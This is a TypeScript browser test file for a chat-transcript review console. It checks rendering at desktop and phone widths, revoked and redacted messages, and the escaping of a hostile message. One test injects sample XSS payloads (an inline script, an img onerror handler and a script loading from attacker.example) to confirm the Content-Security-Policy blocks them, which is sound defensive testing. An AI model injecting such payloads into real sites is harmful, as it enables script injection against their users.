/**
 * The transcript in a real browser (Debian's chromium, driven by playwright-core): a conversation
 * with text, a file, a picture, a revoked message, a gap and a hostile message reads as a
 * transcript, at 1400 px and on a phone, and the hostile message runs nothing. The test fails when
 * chromium is not installed, since CI machines have it (`.ci/run` installs it): install it with
 * `sudo apt-get install chromium`. With `SCREENSHOTS=1` it also writes the screenshots of
 * docs/console.md to docs/images/.
 */
import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { localTableNames } from '../../lambda/table-schema.ts';
import { type RunningConsole, startConsole } from '../../local/console.ts';
import { type LocalEngine, startLocalEngine } from '../../local/local-engine.ts';
import { LOCAL_DEFAULTS } from '../../local/local-settings.ts';
import { freePort } from '../support/child.ts';
import {
  ALICE,
  BOB,
  HOSTILE_NICKNAME,
  HOSTILE_TEXT,
  storeTranscriptFixture,
  type TranscriptFixture,
} from '../support/transcript-fixture.ts';

/** Debian's chromium: no browser download works on these machines. */
const CHROMIUM = '/usr/bin/chromium';

/** Where `SCREENSHOTS=1` writes, for docs/console.md. */
const SCREENSHOT_DIR = new URL('../../docs/images/', import.meta.url).pathname;
const SCREENSHOTS = process.env.SCREENSHOTS === '1';

/** A desktop and a phone, as a reviewer reads on either. */
const DESKTOP = { width: 1400, height: 1000 };
const PHONE = { width: 390, height: 844 };

let engine: LocalEngine;
let fixture: TranscriptFixture;
let running: RunningConsole;
let profile: string;
let browser: BrowserContext;

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) {
    throw new Error(
      `chromium is not installed (${CHROMIUM}), and this test reads the transcript in it. ` +
        'Fix: sudo apt-get install chromium',
    );
  }
  engine = await startLocalEngine();
  // The default table names, as the screenshots show them: this engine is the test's own.
  fixture = await storeTranscriptFixture(engine, localTableNames(LOCAL_DEFAULTS.tableName));
  running = await startConsole([], {
    port: 0,
    env: { DYNAMODB_PORT: new URL(engine.endpoint).port, TABLE_NAME: fixture.tables.messages },
  });
  profile = await mkdtemp(join(tmpdir(), 'console-chromium-'));
  browser = await chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM,
    // Without the networking flags Chromium keeps calling home, on a machine with no network.
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
    ],
    viewport: DESKTOP,
    deviceScaleFactor: 1,
    timezoneId: 'UTC',
    locale: 'en-GB',
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await running?.close();
  await engine?.close();
  if (profile) await rm(profile, { recursive: true, force: true });
});

/** A page that records every dialog, CSP violation and page error it meets. */
async function openPage(): Promise<{ page: Page; dialogs: string[]; violations: string[] }> {
  const page = await browser.newPage();
  const dialogs: string[] = [];
  const violations: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  page.on('pageerror', (error) => violations.push(error.message));
  return { page, dialogs, violations };
}

/** What a script of the hostile message would have set, if any had run. */
function pwned(page: Page): Promise<unknown> {
  // A string, not a function: this project's TypeScript has no DOM types.
  return page.evaluate('window.__pwned');
}

/** Whether the page scrolls sideways: it must not, at any width. */
function scrollsSideways(page: Page): Promise<boolean> {
  return page.evaluate<boolean>(
    'document.documentElement.scrollWidth > document.documentElement.clientWidth',
  );
}

/** Writes a screenshot for the docs when `SCREENSHOTS=1`: the whole page, or its top `height`. */
async function screenshot(page: Page, name: string, height?: number): Promise<void> {
  if (!SCREENSHOTS) return;
  const path = join(SCREENSHOT_DIR, name);
  const size = page.viewportSize() ?? DESKTOP;
  await page.screenshot(
    height ? { path, clip: { x: 0, y: 0, width: size.width, height } } : { path, fullPage: true },
  );
}

const conversationUrl = () => `${running.transcriptUrl}/conversation?a=${ALICE}&b=${BOB}`;

describe('the transcript in chromium', () => {
  it('reads as a transcript, and the hostile message shows as text and runs nothing', async () => {
    // GIVEN the conversation, opened as a reviewer opens it
    const { page, dialogs, violations } = await openPage();

    // WHEN
    await page.goto(conversationUrl());

    // THEN every message is there in send order, each kind as a person reads it
    const rows = page.locator('ol.transcript > li:not(.day)');
    await expect.poll(() => rows.count()).toBe(11);
    const text = (await rows.allInnerTexts()).map((row) => row.replace(/\s+/g, ' '));
    expect(text[0]).toMatch(
      /15:00:00 Alice alice seq 1 record Hi Bob, do you have the Q3 report\?/,
    );
    expect(text[2]).toMatch(/Bob bob seq 3 record file q3-report\.pdf raw content$/);
    expect(text[3]).toMatch(/Alice alice seq 4 record picture raw content$/);
    expect(text[4]).toMatch(
      /seq 5 record Oops, wrong chat.*Revoked by bob at 2025-11-24 16:00:00 UTC\. The archive keeps the original content\./,
    );
    expect(text[5]).toBe(
      'Seqs 6–8 never received · not asked of OpenIM yet (npm run reconcile asks it)',
    );
    expect(text[7]).toMatch(/seq 10 .*Recovered on 2025-11-24 16:00:00 UTC by a reconcile/);
    expect(text[8]).toBe('Seq 11: a notification (revoke notice), not a chat message');
    expect(text[9]).toMatch(/seq 12 record content redacted Redacted on 2025-11-24 16:01:00 UTC/);

    // AND the hostile message and nickname are shown literally, as text
    await expect.poll(() => page.getByText(HOSTILE_TEXT, { exact: true }).isVisible()).toBe(true);
    await expect
      .poll(() => page.getByText(HOSTILE_NICKNAME, { exact: true }).isVisible())
      .toBe(true);
    // AND nothing of them became an element, ran, or opened a dialog; no CSP had to stop anything
    expect(await page.locator('script, img, svg, iframe').count()).toBe(0);
    expect(await pwned(page)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(violations).toEqual([]);

    // AND the picture's raw content is one click away
    const picture = page.locator('li.msg', { hasText: 'seq 4' });
    expect(await picture.locator('pre').isVisible()).toBe(false);
    await picture.getByText('raw content').click();
    expect(await picture.locator('pre').textContent()).toContain(
      '"url":"https://files.example.com/chart.png"',
    );

    // AND nothing scrolls sideways, at 1400 px or on a phone
    expect(await scrollsSideways(page)).toBe(false);
    await screenshot(page, 'console-transcript.png');
    await page.setViewportSize(PHONE);
    expect(await scrollsSideways(page)).toBe(false);
    await screenshot(page, 'console-transcript-phone.png', PHONE.height);
    await page.close();
  });

  it('stops a script that an escape would have missed: the Content-Security-Policy', async () => {
    // GIVEN the server's own answer with a script put in, as if an escape had been forgotten
    const { page, dialogs, violations } = await openPage();
    await page.route('**/transcript/conversation?*', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace(
        '<main>',
        '<main><script>window.__pwned = "inline"; alert("inline")</script>' +
          '<img src=x onerror="window.__pwned = \'handler\'">' +
          '<script src="https://attacker.example/x.js"></script>',
      );
      await route.fulfill({ response, body });
    });

    // WHEN it loads
    await page.goto(conversationUrl());

    // THEN the browser ran none of them, and says the policy refused them
    expect(await pwned(page)).toBeUndefined();
    expect(dialogs).toEqual([]);
    await expect.poll(() => violations.length).toBeGreaterThan(0);
    await page.close();
  });

  it("opens a message's whole record in one click, and walks to its neighbours", async () => {
    // GIVEN the transcript
    const { page, dialogs } = await openPage();
    await page.goto(conversationUrl());

    // WHEN the reviewer opens the hostile message's record
    await page
      .locator('li.msg', { hasText: 'seq 9' })
      .getByRole('link', { name: 'record' })
      .click();

    // THEN its page lists every attribute, content as stored and escaped, and runs nothing
    await page.waitForURL(/\/transcript\/message\?id=/);
    const content = page.locator('table.record tr', { hasText: 'content' }).first();
    expect(await content.locator('td').textContent()).toBe(
      JSON.stringify({ content: HOSTILE_TEXT }),
    );
    expect(await pwned(page)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(await scrollsSideways(page)).toBe(false);
    await screenshot(page, 'console-message.png');

    // WHEN it follows "previous", THEN it is on the revoked message, seq 5 (seqs 6–8 never came)
    await page.getByRole('link', { name: /Previous/ }).click();
    await page.waitForURL(new RegExp(`id=${fixture.revoked}$`));
    expect(await page.locator('.mark-revoked').textContent()).toContain('Revoked by bob');
    await page.close();
  });

  it('says what to start when the engine is not running', async () => {
    // GIVEN a console on an engine that is not running
    const down = await startConsole([], {
      port: 0,
      env: { DYNAMODB_PORT: String(await freePort()) },
    });
    const { page } = await openPage();
    try {
      // WHEN a reviewer opens the start page
      const response = await page.goto(down.transcriptUrl);

      // THEN a page, not a raw error, says what to start and which settings must match
      expect(response?.status()).toBe(503);
      const body = await page.locator('main').textContent();
      expect(body).toContain(
        'The local engine is not running: start the receiver (npm start) first',
      );
      expect(body).toMatch(/DYNAMODB_PORT.*TABLE_NAME.*DATA_DIR/s);
      expect(body).not.toContain('ECONNREFUSED');
      await screenshot(page, 'console-engine-down.png', 480);
    } finally {
      await page.close();
      await down.close();
    }
  });

  it('offers every way to pick messages on its start page', async () => {
    const { page } = await openPage();
    await page.goto(running.transcriptUrl);

    expect(await page.locator('legend').allInnerTexts()).toEqual([
      'A one-to-one conversation',
      'A group',
      'What a user sent',
      'What a user received (one-to-one)',
      'One day',
      'One message',
    ]);
    // WHEN the conversation form is filled in, THEN it leads to the same transcript
    await page.getByLabel('User ID', { exact: true }).first().fill(BOB);
    await page.getByLabel('and user ID').fill(ALICE);
    await page.getByRole('button', { name: 'Show the conversation' }).click();
    await page.waitForURL(/\/transcript\/conversation\?a=bob&b=alice/);
    expect(await page.locator('h1').textContent()).toBe('Conversation of bob and alice');
    expect(await page.locator('li.msg').count()).toBe(9);
    await page.goto(running.transcriptUrl);
    await screenshot(page, 'console-start.png');
    await page.close();
  });
});
